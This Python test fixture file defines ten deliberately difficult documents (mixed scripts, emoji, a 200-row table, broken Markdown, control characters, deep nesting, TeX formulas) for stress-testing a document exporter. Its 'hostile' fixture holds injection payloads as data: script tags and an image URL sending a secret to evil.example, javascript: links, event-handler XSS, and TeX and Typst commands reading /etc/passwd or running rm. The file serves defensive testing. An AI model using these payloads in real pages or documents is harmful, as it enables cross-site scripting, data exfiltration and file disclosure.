"""Ten documents that break exporters, each with words that every file of it must show."""

from __future__ import annotations

from dataclasses import dataclass

from domain.length.contract import Length
from domain.outline.plan import Outline, Part, SectionPlan
from domain.request import WritingRequest
from domain.run import SectionStatus
from services.documents.lookup import Document
from storage.sections import StoredSection


@dataclass(frozen=True)
class Nasty:
    """A document to be made, and what of it must be there to read."""

    name: str
    language: str
    title: str
    sections: tuple[tuple[str, str], ...]
    """(heading, text)."""
    kept: tuple[str, ...]
    """Words that stand in one line in every format."""
    linear: bool = True
    """Whether a PDF's text can be read off in its order: not so from right to left."""

    @property
    def document(self) -> Document:
        """It as the database would give it."""
        return document(self.title, self.language, self.sections)


def document(title: str, language: str, texts: tuple[tuple[str, str], ...]) -> Document:
    """A finished document with one section a part."""
    plans = [SectionPlan(str(n), head, "", 10) for n, (head, _) in enumerate(texts, 1)]
    parts = tuple(Part(plan.key, plan.heading, "", 10, (plan,)) for plan in plans)
    stored = tuple(
        StoredSection(
            plan.key, n, plan.heading, 10, SectionStatus.SEALED, 10, n, "model", text=text
        )
        for n, (plan, (_, text)) in enumerate(zip(plans, texts, strict=True))
    )
    request = WritingRequest(prompt=title or "x", length=Length(100), language=language)
    outline = Outline(title, 10 * len(parts), parts)
    made = "2026-11-22T08:30:00+00:00"
    return Document("doc_nasty", title or "x", request, outline, stored, (), made)


_CHINESE = (
    "潮汐每天涨落两次，几个世纪以来，欧洲沿海的人们一直在利用这种运动。\n**最早的磨坊**建于中世纪"
    "早期，其中一些“至今”仍然屹立……（La Rance，240 MW）。日本語の文章と한국어 문장도 있다。𠮷野家。"
)
_ARABIC = "يرتفع البحر وينخفض مرتين في اليوم. " * 12 + "English inside, שלום בפנים, and 123."
_TABLE = "| No. | Name | Value |\n|---:|:---|:--:|\n" + "\n".join(
    f"| {n} | name{n} *of* <b>row</b> | {n * n} |" for n in range(1, 201)
)
_BROKEN = """**never closed, `code never closed

| a | b |
|---|
| 1 | 2 | 3 | 4 |
|||||
| only one

[link](http://[bad [again](<not closed ![](

1) one
7) seven
* * *
_ __ ___ ____ ***a**b*c
[^1] and [^missing]

[^1]: The note's words.

<!-- never closed

## Inside heading

```unclosed
code words
"""
_CONTROLS = (
    "bell\x07null\x00escape\x1b[31m del\x7f c1\x9b bom\ufeff lone\ud83d half\udc00 end. "
    "Entities: &#8; &#0; &#27; &#xFFFE; &#xD800; &lt;kept&gt; &amp;nbsp; done.\n\n"
    "`code\x0bwith\x0ccontrols`\n\n    indented\x01code\n\nLine\r\nends\rhere.\n\nVisible words."
)
_HOSTILE = """Before <script>alert(1)</script> after.

<script src="https://evil.example/x.js">steal()</script>

<img src=x onerror=alert(2)> <iframe src="https://evil.example"></iframe> <svg onload=alert(3)>

![exfil](https://evil.example/leak.png?q=secret) ![local](/etc/passwd)
![data](data:image/png;base64,AA)

[js](javascript:alert(4)) [data](data:text/html,x) [file](file:///etc/passwd) [vb](VBScript:x)
[good](https://good.example/path) [mail](mailto:a@b.example) <https://auto.example/>

`<b>raw</b>`{=html} \\input{/etc/passwd} \\write18{rm} $\\input{/etc/passwd}$
$\\def\\x{y}$ $^^5cinput$

```{=html}
<script>alert(5)</script>
```

```{=openxml}
<w:p/>
```

#include "/etc/passwd" #import "@preview/x:1.0.0": * `#eval` ]] #read("/etc/passwd") Final words.

<a href="javascript:alert(6)" onclick="x()">Anchor words</a>

<details open ontoggle=alert(7)>

Hidden words

</details>
"""
_DEEP = (
    "\n".join("> " * depth + f"quote{depth}\n" for depth in range(1, 40))
    + "\n\n"
    + "\n".join("  " * depth + f"- item{depth}" for depth in range(40))
    + "\n\n"
    + "- " * 200 + "bottom\n\n" + ">" * 3_000 + " abyss\n\n"
    + "*a **b " * 300 + "\n\n" + "[" * 3_000 + "\n\nFinal words."
)  # fmt: skip
_FORMULAS = (
    "Inline $E = mc^2$ and $\\frac{a}{b}$, price $5 and $10, 100% & #1 _under_score ~tilde^caret "
    "{braces} back\\\\slash <angle> | pipe \\ end.\n\n$$\\sum_{i=1}^{n} x_i \\leq "
    "\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$$\n\n$$\\frac{unclosed$$\n\n"
    '$\\unknowncommand{x}$ $a%b$ $\\left( x$ $#$ $\\text{words "in" it}$ $\\begin{pmatrix}$\n\n'
    "\\begin{document} \\end{document} \\% $$ $ \\( \\) \\[ x \\]\n\nFinal words."
)
_WORDS = (
    "The sea rises and falls twice a day, and for centuries people along the coasts have put that "
    "movement to work in mills, barrages and, of late, turbines that stand in the stream. "
)

NASTY = (
    Nasty("chinese", "zh", "欧洲沿海潮汐发电：前景与实践", (
        ("引言", _CHINESE), ("一、潮汐", _CHINESE),
        ("参考文献", "[1] 王某：《潮汐》。\n[2] 李某：《海》。"),
    ), ("潮汐每天涨落两次", "最早的磨坊", "日本語の文章", "한국어", "𠮷野家", "《潮汐》")),
    Nasty("arabic", "ar", "طاقة المد والجزر", (("مقدمة", _ARABIC), ("خاتمة", _ARABIC)),
          ("وينخفض", "English inside", "שלום"), linear=False),
    Nasty("emoji", "en", "Emoji 🎉 & <Titles> \"quoted\" *starred* #1", (
        ("First 😀 heading", "Faces 😀😃 flags 🇩🇪 family 👨‍👩‍👧‍👦 skin 👍🏽 heart ❤️ "
         "zalgo ẑ̴̧̗ words. "),
        ("First 😀 heading", "Same heading again. ☎ ✔ → ∑ ½ ﷽ \u202eoverride\u202c Final words."),
    ), ("Same heading again", "Final words")),
    Nasty("table", "en", "A table of two hundred rows", (("Table", _TABLE), ("After", "After it.")),
          ("name200", "40000", "After it")),
    Nasty("broken", "en", "Broken Markdown", (("One", _BROKEN), ("Two", "Text that stays whole.")),
          ("never closed", "Text that stays whole", "code words", "Inside heading")),
    Nasty("controls", "en", "Controls\x00 in\x1b titles\ud800\nand lines", (
        ("Head\x07ing\nwith # break", _CONTROLS), ("\x00", "Under an empty heading."),
    ), ("Visible words", "Under an empty heading", "bell")),
    Nasty("hostile", "en", "<script>alert('title')</script> #import \\input{x}", (
        ("<img src=x onerror=alert(8)> Head", _HOSTILE), ("Two", "More $\\write18{rm}$ words."),
    ), ("Before", "Final words", "Hidden words", "Anchor words", "good.example", "auto.example")),
    Nasty("long", "en", "Thirty thousand words", tuple(
        (f"Chapter {n}", "\n\n".join([_WORDS * 5] * 6) + f"\n\nEnd of chapter {n}.")
        for n in range(1, 33)
    ), ("Chapter 32", "End of chapter 1.", "End of chapter 32.")),
    Nasty("deep", "en", "Deeply nested", (("Deep", _DEEP), ("After", "Still here.")),
          ("quote1", "quote39", "item0", "item39", "bottom", "abyss", "Final words", "Still here")),
    Nasty("formulas", "en", "Formulas & 100% _specials_ {of} TeX^2 ~ \\LaTeX $x$ #1", (
        ("Costs: 5% & $10_x #1 {y} \\z ~ ^", _FORMULAS), ("Two", "After them."),
    ), ("Final words", "After them", "price")),
)  # fmt: skip
"""Each is small but `long`, which has 30,000 words."""
